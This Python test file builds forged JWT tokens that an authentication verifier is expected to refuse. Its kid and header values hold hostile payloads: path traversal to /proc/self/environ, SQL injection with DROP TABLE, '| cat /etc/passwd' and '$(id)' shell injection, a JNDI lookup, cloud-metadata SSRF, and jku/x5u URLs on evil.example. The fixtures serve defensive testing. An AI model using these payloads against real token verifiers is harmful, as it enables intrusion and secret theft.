"""Keys that the token names, brings along or makes up."""

from __future__ import annotations

from base64 import b64encode

from tests.auth.hostile.algorithms import DER
from tests.auth.hostile.making import HS256, Table, by_key, by_publisher
from tests.auth.minting import (
    EC_KEY,
    OTHER_RSA_KEY,
    RSA_KEY,
    SECRET,
    SHORT_RSA_KEY,
    ably_claims,
    crafted,
    issuer_claims,
    issuer_token,
    jwk,
    part,
)

NAMES = {
    "a path to an empty file": "../../../../../../dev/null",
    "an empty file": "/dev/null",
    "a file of zeros": "/dev/zero",
    "the environment": "/proc/self/environ",
    "a file's URL": "file:///dev/null",
    "a path back to the key": "bank.server1/../server1",
    "SQL that is true": "' OR '1'='1",
    "SQL that gives a secret": "x' UNION SELECT 'secret' --",
    "SQL after the name": "bank.server1'; DROP TABLE keys; --",
    "a URL": "https://evil.example/key",
    "a URL of the machine's metadata": "http://169.254.169.254/latest/meta-data/",
    "a command": "| cat /etc/passwd",
    "a command of a shell": "$(id)",
    "JNDI": "${jndi:ldap://evil.example/x}",
    "a template": "{{7*7}}",
    "Redis": "bank.server1\r\nGET keys\r\n",
    "all": "*",
    "all of an app": "bank.*",
    "the name and NUL": "bank.server1\0",
    "the name and a line feed": "bank.server1\n",
    "the name after a blank": " bank.server1",
    "the name in capitals": "BANK.SERVER1",
    "the name with a Cyrillic letter": "b\u0430nk.server1",
    "the name in full width": "ｂａｎｋ．ｓｅｒｖｅｒ１",
    "the name with a space of no width": "bank\u200b.server1",
    "the name with an accent": "bank.server1\u0301",
    "the name with its secret": f"bank.server1:{SECRET.decode()}",
    "nothing": "",
    "the app": "bank",
    "Python's insides": "__class__",
    "8,000 letters": "x" * 8000,
}

REFUSED: Table = {
    (40143, "issuer"): {
        f"kid: {what}, with {whose} secret": crafted(HS256 | {"kid": name}, ably_claims(), secret)
        for what, name in NAMES.items()
        for whose, secret in (("no", b""), ("the right", SECRET))
    },
    (40143, "key_id"): {
        f"kid of an issuer: {what}": by_publisher(OTHER_RSA_KEY, "RS256", name) for what, name in NAMES.items()
    }
    | {
        "no kid, of an issuer with several keys": by_publisher(RSA_KEY, "RS256", None),
        "a shared secret that was published": by_publisher(SECRET, "HS256", "oct"),
        "an RSA key that is too short": by_publisher(SHORT_RSA_KEY, "RS256", "short"),
    },
    (40140, "signature"): {
        f"a key that comes along: {name}": by_publisher(OTHER_RSA_KEY, "RS256", "rsa", **{name: value})
        for name, value in (
            ("jwk", jwk(OTHER_RSA_KEY, kid="rsa", alg="RS256")),
            ("jku", "https://evil.example/jwks.json"),
            ("x5u", "https://evil.example/chain.pem"),
            ("x5c", [b64encode(DER).decode()]),
            ("x5t", part(b"\0" * 20)),
            ("x5t#S256", part(b"\0" * 32)),
            ("epk", jwk(EC_KEY)),
            ("url", "https://evil.example/"),
        )
    }
    | {
        "a secret that comes along": by_key(b"evil", jwk={"kty": "oct", "k": part(b"evil")}),
        "a secret that is said to be elsewhere": by_key(b"evil", jku="https://evil.example/jwks.json"),
        "another RSA key": by_publisher(OTHER_RSA_KEY, "RS256", "rsa"),
        "another RSA key of the issuer with a file": issuer_token(OTHER_RSA_KEY),
        "another RSA key, and a kid that is a path": issuer_token(OTHER_RSA_KEY, kid="../../dev/null"),
        "another secret": by_key(b"another-secret-of-thirty-two-bytes-x"),
        "no secret": by_key(b""),
        "the secret in capitals": by_key(SECRET.upper()),
        "the secret and a line feed": by_key(SECRET + b"\n"),
        "an issuer's claims with another secret": by_key(b"x" * 40, claims=issuer_claims()),
    },
    (40140, "critical_header"): {
        "crit": by_key(crit=["exp"]),
        "an empty crit": by_key(crit=[]),
        "crit null": by_key(crit=None),
        "crit of b64": by_key(crit=["b64"], b64=False),
        "b64 false": by_key(b64=False),
        "b64 null": by_key(b64=None),
        "crit of an issuer": by_publisher(RSA_KEY, "RS256", "rsa", crit=["http://evil.example/"]),
    },
    (40140, "token_type"): {
        f"typ {name}": by_publisher(RSA_KEY, "RS256", "rsa", typ=name)
        for name in ("logout+jwt", "dpop+jwt", "secevent+jwt", "application/logout+JWT", "oauth-authz-req+jwt")
    },
    (40144, "token_form"): {
        "kid of a number": by_key(kid=1),
        "kid of a list": by_key(kid=["bank.server1"]),
        "kid of an object": by_key(kid={"$ne": None}),
        "kid true": by_key(kid=True),
        "typ of a list": by_key(typ=["JWT"]),
    },
}
